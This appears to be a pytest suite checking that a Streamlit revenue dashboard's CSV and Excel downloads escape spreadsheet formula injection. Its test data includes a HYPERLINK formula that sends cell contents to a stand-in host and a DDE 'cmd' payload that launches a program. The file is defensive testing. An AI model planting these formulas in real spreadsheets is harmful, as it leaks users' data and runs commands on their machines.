"""Exports: no formula injection in CSV or Excel, numbers and dates intact."""

import csv
import io
import re
import tomllib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from ui.downloads import FORMULA_PREFIXES, excel_safe, to_csv_bytes, to_excel_bytes

ATTACKS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\x00=1",
]


def _starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) or text.lstrip().startswith(FORMULA_PREFIXES)


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_excel_safe_neutralises_text_only():
    df = pd.DataFrame(
        {
            "customer": ATTACKS + ["Acme", "Café-Bar", None],
            "mrr": [-5.0, -1, 0, 1, 2, 3, 4, 5, 6, 7, -8, 9],
            "delta": pd.array([-1] * 12, dtype="Int64"),
            "when": pd.date_range("2024-01-01", periods=12, freq="D"),
        }
    )
    before = df.copy()
    out = excel_safe(df)
    assert out["customer"].tolist()[:9] == ["'" + a for a in ATTACKS]
    assert out["customer"].tolist()[9:11] == ["Acme", "Café-Bar"]  # a '-' inside is harmless
    assert pd.isna(out["customer"].iloc[11])
    pd.testing.assert_series_equal(out["mrr"], df["mrr"])  # negative numbers stay numbers
    pd.testing.assert_series_equal(out["delta"], df["delta"])
    pd.testing.assert_series_equal(out["when"], df["when"])
    pd.testing.assert_frame_equal(df, before)  # caller's frame untouched


def test_excel_safe_labels_categories_mixed_and_index():
    df = pd.DataFrame(
        {
            "=evil": pd.Categorical(["=a", "b", "=a"]),
            "mixed": np.array(["-x", -3, True], dtype=object),
            "plain": ["x", "y", "z"],
        },
        index=pd.Index(["=i", "j", "+k"], name="@idx"),
    )
    out = excel_safe(df)
    assert list(out.columns) == ["'=evil", "mixed", "plain"]
    assert out["'=evil"].tolist() == ["'=a", "b", "'=a"]
    assert out["mixed"].tolist() == ["'-x", -3, True]
    assert list(out.index) == ["'=i", "j", "'+k"] and out.index.name == "'@idx"
    multi = excel_safe(df.set_index(["plain"], append=True))
    assert list(multi.index) == [("'=i", "x"), ("j", "y"), ("'+k", "z")]
    with pytest.raises(ValueError, match="DataFrame"):
        excel_safe(["not", "a", "frame"])


def test_csv_export_is_safe_and_keeps_numbers():
    df = pd.DataFrame({"customer": ATTACKS, "mrr": np.linspace(-10, 10, len(ATTACKS))})
    rows = _csv_rows(to_csv_bytes(df))
    assert rows[0] == ["customer", "mrr"]
    for (name, mrr), original_name, original_mrr in zip(rows[1:], df["customer"], df["mrr"]):
        assert name == "'" + original_name.replace("\r\n", "\n")
        assert float(mrr) == original_mrr


def test_csv_exports_a_meaningful_index():
    monthly = pd.DataFrame(
        {"mrr": [1.0, 2.0]}, index=pd.period_range("2024-01", periods=2, freq="M", name="month")
    )
    assert _csv_rows(to_csv_bytes(monthly)) == [
        ["month", "mrr"],
        ["2024-01", "1.0"],
        ["2024-02", "2.0"],
    ]
    plain = pd.DataFrame({"mrr": [1.0]})
    assert _csv_rows(to_csv_bytes(plain)) == [["mrr"], ["1.0"]]
    assert _csv_rows(to_csv_bytes(plain, index=True)) == [["index", "mrr"], ["0", "1.0"]]
    assert _csv_rows(to_csv_bytes(monthly, index=False)) == [["mrr"], ["1.0"], ["2.0"]]


def test_excel_round_trip():
    df = pd.DataFrame(
        {
            "customer": ATTACKS + ["Acme \x01 Ltd", "Zoë"],
            "mrr": [-1.25, 0.0, 3, 4, 5, 6, 7, 8, 9, 10, 1e9],
            "customers": pd.array(range(11), dtype="Int64"),
            "since": pd.date_range("2024-01-01", periods=11, freq="D", tz="Europe/Paris"),
            "month": pd.period_range("2024-01", periods=11, freq="M"),
            "paying": [True, False] * 5 + [True],
        }
    )
    data = to_excel_bytes(df, "MRR by month: 2024/25?")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "MRR by month  2024 25"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formulas
    back = pd.read_excel(io.BytesIO(data))
    # XML stores a bare CR as a line feed; control characters Excel forbids are dropped.
    expected = ["'" + ILLEGAL_CHARACTERS_RE.sub("", a).replace("\r", "\n") for a in ATTACKS]
    assert back["customer"].tolist() == expected + ["Acme  Ltd", "Zoë"]
    assert back["mrr"].tolist() == df["mrr"].tolist()
    assert back["customers"].tolist() == list(range(11))
    assert back["since"].tolist() == df["since"].dt.tz_localize(None).tolist()
    assert back["month"].tolist() == [str(p) for p in df["month"]]
    assert back["paying"].tolist() == df["paying"].tolist()


def test_excel_sheet_name_limits():
    sheet = load_workbook(io.BytesIO(to_excel_bytes(pd.DataFrame({"a": [1]}), "x" * 40))).active
    assert sheet.title == "x" * 31
    assert (
        load_workbook(io.BytesIO(to_excel_bytes(pd.DataFrame({"a": [1]}), "[]"))).active.title
        == "Sheet1"
    )


# Text biased towards the dangerous shapes: optional control character or spaces, then a formula
# character, then anything.
risky_text = st.tuples(
    st.sampled_from(["", " ", "  ", "\x01", "\x0b", " \x02"]),
    st.sampled_from([*FORMULA_PREFIXES, "", "a", "'"]),
    st.text(max_size=10),
).map("".join)
frames = st.lists(
    st.tuples(
        st.one_of(st.none(), st.text(max_size=12), risky_text),
        st.floats(allow_nan=False, allow_infinity=False, width=32),
    ),
    min_size=1,
    max_size=8,
).map(lambda rows: pd.DataFrame({"name": [r[0] for r in rows], "mrr": [float(r[1]) for r in rows]}))


@settings(max_examples=200, deadline=None)
@given(df=frames)
def test_no_csv_text_cell_starts_a_formula(df):
    rows = _csv_rows(to_csv_bytes(df))
    assert len(rows) == len(df) + 1
    for (name, mrr), original, value in zip(rows[1:], df["name"], df["mrr"]):
        assert not _starts_formula(name)
        if pd.isna(original) or original == "":
            assert name == ""
        else:
            assert name in (original, "'" + original)  # only an apostrophe added, nothing lost
        assert float(mrr) == value  # numbers, negative ones included, intact


@settings(max_examples=60, deadline=None)
@given(df=frames)
def test_no_excel_text_cell_starts_a_formula(df):
    sheet = load_workbook(io.BytesIO(to_excel_bytes(df))).active
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert len(cells) == len(df)
    for (name, mrr), value in zip(cells, df["mrr"]):
        assert name.data_type != "f"
        if isinstance(name.value, str):
            assert not _starts_formula(name.value)
        assert mrr.value == pytest.approx(value)


# --- every download the app offers goes through the safe export -----------------------------------

APP = Path(__file__).resolve().parents[2]
PAGE_SCRIPTS = ["app.py", *sorted(f"pages/{p.name}" for p in (APP / "pages").glob("*.py"))]


def test_no_download_bypasses_the_safe_export():
    """Only ui/tables.py draws download buttons, and only ui/downloads.py writes CSV or Excel: a
    new st.download_button or to_csv elsewhere in the app would skip the formula guard."""
    offenders = []
    for path in [APP / "app.py", *(APP / "pages").glob("*.py"), *(APP / "ui").glob("*.py")]:
        rel = path.relative_to(APP).as_posix()
        source = path.read_text(encoding="utf-8")
        for pattern, allowed in [
            (r"\bdownload_button\s*\(", {"ui/tables.py"}),
            (r"\.to_csv\s*\(|\.to_excel\s*\(|\bExcelWriter\b|\bxlsxwriter\b", {"ui/downloads.py"}),
        ]:
            if rel not in allowed and re.search(pattern, source):
                offenders.append(f"{rel}: {pattern}")
    assert offenders == []
    tables = (APP / "ui" / "tables.py").read_text(encoding="utf-8")
    assert "to_csv_bytes(" in tables and "to_excel_bytes(" in tables


def test_streamlit_own_table_download_is_off():
    """st.dataframe's built-in "Download as CSV" writes cells unescaped (checked in Streamlit's
    frontend): the app's config turns it off, leaving only the safe buttons."""
    config = tomllib.loads((APP / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def _hostile_sample():
    """The bundled sample with every text a spreadsheet could run: ids, plans, segments."""
    import mrrkit

    lines = mrrkit.load_sample()
    return lines.assign(
        customer_id="=HYPERLINK(\"http://evil.example?\"&A1)" + lines["customer_id"],
        plan="@" + lines["plan"],
        industry="-" + lines["industry"],
        channel="+" + lines["channel"],
        country="\t=" + lines["country"],
        churn_reason=("\r=" + lines["churn_reason"]).where(lines["churn_reason"].notna()),
    )


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _cells(data: bytes, file_name: str) -> tuple[list[str], list[object]]:
    """(header cells, text cells) of a downloaded CSV or Excel file, as written; CSV cells that
    are plain numbers (a spreadsheet reads "-12.5" as a number, not a formula) left out."""
    if file_name.endswith(".csv"):
        rows = _csv_rows(data)
        return rows[0], [cell for row in rows[1:] for cell in row if not _is_number(cell)]
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in rows for cell in row), file_name
    return [c.value for c in rows[0]], [c.value for row in rows[1:] for c in row]


# Pages whose downloads hold numbers by month only (nothing from the data) in their default view.
TEXT_FREE = {"pages/2_Cohorts.py", "pages/5_Scenarios.py"}


# A canonical export whose ids, plans and even a rejected row's raw values are formulas.
HOSTILE_FILE = (
    "customer_id,start,end,mrr,plan\n"
    '"=HYPERLINK(""http://evil.example?""&A1)",2024-01-01,,10,@plan\n'
    "+acme,2024-02-01,2024-06-01,20,-pro\n"
    "@boss,=1+1,,30,=basic\n"  # a start date that is a formula: rejected, raw value kept
).encode()
DATA_PAGE = "pages/0_Data.py"


@pytest.mark.parametrize("script", PAGE_SCRIPTS)
def test_every_download_of_every_page_is_formula_safe(script, monkeypatch, tmp_path):
    from streamlit.delta_generator import DeltaGenerator
    from streamlit.testing.v1 import AppTest

    from ui.data import upload_source

    monkeypatch.delenv("MRRKIT_PASSWORD", raising=False)
    monkeypatch.delenv("MRRKIT_PASSWORD_HASH", raising=False)
    monkeypatch.setenv("MRRKIT_VIEWS_DIR", str(tmp_path / "views"))
    offered = []
    real = DeltaGenerator.download_button

    def spy(self, label, data, file_name=None, *args, **kwargs):
        offered.append((file_name, data))
        return real(self, label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", spy)
    at = AppTest.from_file(str(APP / "app.py"), default_timeout=120)
    at.secrets["_isolated"] = True
    if script != "app.py":
        at.switch_page(script)
    if script == DATA_PAGE:
        at.run()
        at.file_uploader(key="data.export").set_value(("hostile.csv", HOSTILE_FILE, "text/csv"))
    else:
        at.session_state["source"] = upload_source("hostile.csv", _hostile_sample(), "EUR")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    if script in ("app.py", "pages/0_Overview.py"):
        assert offered == []  # the overview has no table
        return
    assert offered, f"{script} offers no download"
    hostile = 0
    for file_name, data in offered:
        content = data() if callable(data) else data
        header, cells = _cells(content, file_name)
        for cell in [*header, *cells]:
            if isinstance(cell, str):
                assert not _starts_formula(cell), (file_name, cell)
                hostile += cell.startswith("'")
    assert hostile or script in TEXT_FREE, f"no hostile text reached the downloads of {script}"
